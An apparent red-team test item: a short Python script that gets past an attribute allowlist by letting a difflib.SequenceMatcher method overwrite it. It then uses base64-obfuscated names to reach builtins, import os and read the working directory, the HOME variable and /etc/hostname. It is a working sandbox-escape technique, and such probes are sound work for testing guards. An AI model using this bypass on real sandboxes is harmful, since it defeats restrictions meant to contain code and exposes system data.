# family: red team, round 56b (alias of a library class stores a name table on self; getattr guarded by it runs any code)
import base64
import difflib

K = difflib.SequenceMatcher


class Reader:
    a = ("real", "imag")

    def load(self, names):
        K.set_seq1(self, names)

    def get(self, thing, name):
        if name in self.a:
            return getattr(thing, name)
        return None


def probe():
    return 1


def d(text):
    return base64.b64decode(text).decode()


glob, built, imp, env, cwd = (d(x) for x in ("X19nbG9iYWxzX18=", "X19idWlsdGluc19f", "X19pbXBvcnRfXw==", "ZW52aXJvbg==", "Z2V0Y3dk"))
r = Reader()
r.load((glob, imp, env, cwd, d("b3Blbg==")))
g = r.get(probe, glob)
b = g[built]
o = r.get(b, imp)(d("b3M="))
print(o)
print(r.get(o, cwd)())
print(r.get(o, env)[d("SE9NRQ==")])
print(r.get(b, d("b3Blbg=="))(d("L2V0Yy9ob3N0bmFtZQ==")).read().strip())
